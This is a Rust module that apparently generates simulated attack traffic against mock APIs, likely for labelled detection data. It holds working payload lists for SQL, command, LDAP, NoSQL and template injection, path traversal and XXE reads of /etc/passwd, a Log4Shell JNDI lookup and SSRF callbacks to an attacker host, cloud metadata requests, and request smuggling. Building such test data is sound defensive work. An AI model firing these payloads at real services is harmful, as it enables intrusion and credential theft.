//! Injection, requests that the server makes, and smuggling (API7, API8).

use super::{ANY, Attack, Kind, Outcomes};
use crate::apis::{Api, BANK, CLINIC, Reach, SAAS, SHOP};
use crate::exchange::{Body, Exchange};
use crate::labels::About;
use crate::values::{mix, opaque, percent};
use crate::world::{Client, SECOND, World};

/// Where servers call back to.
static CALLBACK: Api = Api {
    name: "callback",
    host: "oob.attacker.example",
    server: [45, 9, 148, 7],
    port: 80,
    http2: false,
    ..SHOP
};

pub(crate) static SQL_ERROR: Kind = Kind {
    name: "sqli_error",
    owasp: "API8",
    says: "SQL in parameters; success shows the database's error",
    outcomes: Outcomes::Both,
    steps: [30, 20, 60],
    apis: ANY,
    begin: super::nothing,
    step: |attack, world| {
        const PAYLOADS: &[&str] = &[
            "1'",
            "1' OR '1'='1",
            "x' UNION SELECT null,version()-- -",
            "1) AND extractvalue(1,concat(0x7e,user()))-- -",
            "'; DROP TABLE users;--",
        ];
        let error = r#"{"error":"PSQLException: ERROR: unterminated quoted string at or near \"'\" Position: 54; SQL state 42601"}"#;
        let payload = PAYLOADS[attack.nth % PAYLOADS.len()];
        search_step(attack, world, payload, (500, Body::json(error)), 5_000_000);
    },
};

pub(crate) static SQL_BOOLEAN: Kind = Kind {
    name: "sqli_boolean",
    says: "pairs of true and false conditions; success answers them differently",
    step: |attack, world| {
        let truth = attack.nth % 2 == 0;
        let payload =
            format!("lamp' AND {}={} AND 'a'='a", 7 + attack.nth, if truth { 7 + attack.nth } else { 1 });
        let api = attack.api;
        let resource = api
            .resources
            .iter()
            .find(|resource| resource.reach == Reach::Public)
            .unwrap_or(&api.resources[0]);
        let full = world.search(api, resource, &payload, 12);
        let empty = r#"{"items":[],"page":0,"limit":20,"total":0}"#;
        let told = if truth { full } else { full.answer(200, Body::json(empty)) };
        refuse_or_ignore(attack, world, told);
    },
    ..SQL_ERROR
};

pub(crate) static SQL_TIME: Kind = Kind {
    name: "sqli_time",
    says: "SQL that sleeps; success takes as long as it says",
    step: |attack, world| {
        const PAYLOADS: &[&str] =
            &["1' AND SLEEP(5)-- -", "1'; WAITFOR DELAY '0:0:5'--", "1' || pg_sleep(5)-- -"];
        let payload = PAYLOADS[attack.nth % PAYLOADS.len()];
        search_step(
            attack,
            world,
            payload,
            (200, Body::json(r#"{"items":[],"page":0,"limit":20,"total":0}"#)),
            5 * SECOND,
        );
    },
    ..SQL_ERROR
};

pub(crate) static COMMAND: Kind = Kind {
    name: "command_injection",
    says: "shell commands in parameters; success shows their output",
    step: |attack, world| {
        const PAYLOADS: &[&str] = &["; id", "| cat /etc/passwd", "$(id)", "`id`", "&& whoami"];
        let payload = PAYLOADS[attack.nth % PAYLOADS.len()];
        let output =
            Body::json(r#"{"items":[],"note":"uid=33(www-data) gid=33(www-data) groups=33(www-data)"}"#);
        search_step(attack, world, payload, (200, output), 30_000_000);
    },
    ..SQL_ERROR
};

pub(crate) static TRAVERSAL: Kind = Kind {
    name: "path_traversal",
    says: "paths that climb; success shows a file of the system",
    step: |attack, world| {
        const PAYLOADS: &[&str] = &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "....//....//etc/passwd",
            "..%252f..%252fetc%252fpasswd",
        ];
        let path = PAYLOADS[attack.nth % PAYLOADS.len()];
        let file = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n";
        let told =
            Exchange::ask("GET", format!("/download?file={path}")).answer(200, Body::new("text/plain", file));
        attack.say_either(world, told, (400, "invalid_path"));
    },
    ..SQL_ERROR
};

pub(crate) static XSS: Kind = Kind {
    name: "xss",
    says: "script in parameters; success has it in the page again",
    step: |attack, world| {
        let payload = format!("<script>alert({})</script>", 1_000 + attack.nth);
        let page = format!("<html><body><h1>Results for {payload}</h1></body></html>");
        search_step(attack, world, &payload, (200, Body::new("text/html", page)), 5_000_000);
    },
    ..SQL_ERROR
};

pub(crate) static SSTI: Kind = Kind {
    name: "ssti",
    says: "template expressions; success has the product that they compute",
    step: |attack, world| {
        let (a, b) = (1_300 + attack.nth, 7_777);
        let payload = format!("{{{{{a}*{b}}}}}");
        let page = Body::new("text/html", format!("<html><body>Hello {}</body></html>", a * b));
        search_step(attack, world, &payload, (200, page), 5_000_000);
    },
    ..SQL_ERROR
};

pub(crate) static LDAP: Kind = Kind {
    name: "ldap_injection",
    says: "LDAP filters in the login; success lets in",
    apis: &[&SAAS, &CLINIC],
    step: |attack, world| {
        const PAYLOADS: &[&str] = &["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*"];
        let login = PAYLOADS[attack.nth % PAYLOADS.len()];
        let identity = attack
            .scenario
            .success
            .then(|| world.identity(attack.api, attack.scenario.number() as u32 % attack.api.users));
        let exchange = world.login(attack.api, login, "*", identity.as_ref());
        attack.say(world, &exchange);
    },
    ..SQL_ERROR
};

pub(crate) static NOSQL: Kind = Kind {
    name: "nosql_injection",
    says: "operators instead of values; success lets in without a password",
    apis: &[&SHOP, &SAAS],
    step: |attack, world| {
        const PAYLOADS: &[&str] = &[r#"{"$ne":null}"#, r#"{"$gt":""}"#, r#"{"$regex":".*"}"#];
        let value = PAYLOADS[attack.nth % PAYLOADS.len()];
        let body = Body::json(format!(r#"{{"email":{value},"password":{value}}}"#));
        let victim = attack.scenario.number() as u32 % attack.api.users;
        let identity = attack.scenario.success.then(|| world.identity(attack.api, victim));
        let exchange = world.login(attack.api, "", "", identity.as_ref()).with(body);
        attack.say(world, &exchange);
    },
    ..SQL_ERROR
};

pub(crate) static XXE: Kind = Kind {
    name: "xxe",
    says: "external entities in XML; success shows a file",
    step: |attack, world| {
        let body = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><import><name>&x;</name></import>"#;
        let told = "<result><name>root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:</name></result>";
        let asked = Exchange::ask("POST", format!("/import?batch={}", attack.nth))
            .with(Body::new("application/xml", body));
        attack.say_either(
            world,
            asked.answer(200, Body::new("application/xml", told)),
            (400, "doctype_not_allowed"),
        );
    },
    ..SQL_ERROR
};

pub(crate) static DESERIALISATION: Kind = Kind {
    name: "deserialisation",
    says: "serialised objects of Java, Python and PHP; success shows what they ran",
    step: |attack, world| {
        const PAYLOADS: &[&str] = &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmcuYXBhY2hl",
            "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAlpZCA+IC90bXCUhZRSlC4=",
            r#"O:8:\"Exploit_\":1:{s:3:\"cmd\";s:2:\"id\";}"#,
        ];
        let body = format!(r#"{{"state":"{}","n":{}}}"#, PAYLOADS[attack.nth % PAYLOADS.len()], attack.nth);
        let told = Body::json(r#"{"status":"restored","log":"uid=33(www-data) gid=33(www-data)"}"#);
        let exchange = Exchange::ask("POST", "/session/restore").with(Body::json(body)).answer(200, told);
        attack.say_either(world, exchange, (400, "invalid_state"));
    },
    ..SQL_ERROR
};

pub(crate) static LOG4SHELL: Kind = Kind {
    name: "log4shell",
    says: "JNDI lookups in headers; success makes the server fetch a class",
    step: |attack, world| {
        let name = opaque(mix(attack.scenario.number(), attack.nth as u64), 8);
        let payload = format!("${{jndi:ldap://45.9.148.7/{name}}}");
        let api = attack.api;
        let resource = api
            .resources
            .iter()
            .find(|resource| resource.reach == Reach::Public)
            .unwrap_or(&api.resources[0]);
        let exchange = world.get(api, resource, attack.nth as u32).header("X-Api-Version", payload);
        let exchange = Exchange { persons: Vec::new(), ..exchange };
        attack.say(world, &exchange);
        if attack.scenario.success {
            call_back(attack, world, &format!("/{name}.class"), "Java/17.0.10");
        }
    },
    ..SQL_ERROR
};

pub(crate) static CRLF: Kind = Kind {
    name: "crlf_injection",
    says: "line ends in parameters; success has a header of the attacker's in the answer",
    step: |attack, world| {
        let target = format!("/redirect?to=%2Fhome%0d%0aSet-Cookie:%20sid%3Devil{}", attack.nth);
        let asked = Exchange { status: 302, ..Exchange::ask("GET", target) }.says("Location", "/home");
        let told = asked.says("Set-Cookie", format!("sid=evil{}", attack.nth));
        attack.say_either(world, told, (400, "bad_request"));
    },
    ..SQL_ERROR
};

pub(crate) static SSRF: Kind = Kind {
    name: "ssrf",
    owasp: "API7",
    says: "addresses for the server to fetch; success shows the metadata service or calls back",
    begin: Attack::sign_in,
    step: |attack, world| {
        const TARGETS: &[&str] = &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:6379/",
            "http://10.60.0.1/admin",
        ];
        let outside = attack.nth % 2 == 1;
        let name = opaque(mix(attack.scenario.number(), attack.nth as u64), 8);
        let url = if outside {
            format!("http://oob.attacker.example/{name}")
        } else {
            TARGETS[attack.nth / 2 % TARGETS.len()].to_owned()
        };
        let asked =
            Exchange::ask("POST", "/api/import-image").with(Body::json(format!(r#"{{"url":"{url}"}}"#)));
        let shown = if outside {
            r#"{"status":"fetched","bytes":2}"#
        } else {
            r#"{"status":"fetched","preview":"web-node-role AccessKeyId ASIAIOSFODNN7EXAMPLQ"}"#
        };
        attack.say_either(
            world,
            asked.answer(200, Body::json(shown)).takes(300_000_000),
            (400, "address_not_allowed"),
        );
        if outside && attack.scenario.success {
            call_back(attack, world, &format!("/{name}"), "image-fetcher/2.0");
        }
    },
    ..SQL_ERROR
};

/// The server itself asks the attacker's, while its own answer is under way.
fn call_back(attack: &Attack, world: &mut World, path: &str, agent: &str) {
    let mut server = Client::new(attack.api.server, agent);
    let fetched = Exchange::ask("GET", path).answer(200, Body::new("application/octet-stream", "ok"));
    let about = About { what: "callback", attack: Some(attack.id.clone()) };
    server.busy = world.now + 120_000_000;
    world.say(&mut server, &CALLBACK, &fetched, &about);
    server.close(world);
}

pub(crate) static SMUGGLING: Kind = Kind {
    name: "smuggling",
    says: "two lengths in one request; success answers what was hidden",
    steps: [12, 8, 30],
    apis: &[&SHOP, &BANK],
    step: |attack, world| {
        let host = attack.api.host;
        let hidden = format!("GET /api/v1/admin/users HTTP/1.1\r\nHost: {host}\r\nX: ");
        let coding = [" chunked", "\tchunked", " chunked, identity"][attack.nth % 3];
        let raw = format!(
            "POST /api/v1/reviews?n={} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nContent-Length: {}\r\nTransfer-Encoding:{coding}\r\n\r\n0\r\n\r\n{hidden}",
            attack.nth,
            attack.clients[attack.turn()].agent,
            hidden.len() + 5
        );
        let mut told = Exchange::ask("POST", format!("/api/v1/reviews?n={}", attack.nth))
            .answer(200, Body::json(r#"{"items":[{"id":1,"role":"admin"}]}"#));
        told.raw = Some(raw.into_bytes());
        told.anonymous = true;
        attack.say_either(world, told, (400, "bad_request"));
        // Neither end goes on with such a connection.
        let turn = attack.turn();
        attack.clients[turn].close(world);
    },
    ..SQL_ERROR
};

/// A search with this payload; success answers with what is given.
fn search_step(
    attack: &mut Attack,
    world: &mut World,
    payload: &str,
    (status, body): (u16, Body),
    takes: i64,
) {
    let api = attack.api;
    let resource =
        api.resources.iter().find(|resource| resource.reach == Reach::Public).unwrap_or(&api.resources[0]);
    let target = format!("{}?q={}&limit=20", resource.path, percent(payload));
    let told = Exchange::ask("GET", target).answer(status, body).takes(takes);
    refuse_or_ignore(attack, world, told);
}

/// Where it fails, half of the services refuse it, and half find nothing.
fn refuse_or_ignore(attack: &mut Attack, world: &mut World, told: Exchange) {
    let told = Exchange { persons: Vec::new(), ..told };
    if attack.scenario.success || attack.scenario.number() >> 11 & 1 == 0 {
        return attack.say_either(world, told, (403, "blocked_by_policy"));
    }
    let nothing =
        told.answer(200, Body::json(r#"{"items":[],"page":0,"limit":20,"total":0}"#)).takes(5_000_000);
    attack.say(world, &nothing);
}
